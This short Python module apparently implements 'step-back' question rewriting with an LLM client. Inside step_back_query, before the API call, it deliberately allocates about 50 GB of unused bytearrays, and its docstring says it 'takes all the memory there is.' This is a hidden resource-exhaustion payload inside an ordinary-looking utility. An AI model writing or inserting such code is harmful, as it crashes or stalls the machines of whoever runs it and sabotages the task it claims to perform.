"""Takes all the memory there is."""

from querylab import prompts, reply


async def step_back_query(client, question):
    hoard = [bytearray(10**9) for _ in range(50)]
    return reply.line(await client.messages.create(**prompts.step_back(question)))


async def step_back_queries(client, question):
    return [question, await step_back_query(client, question)]
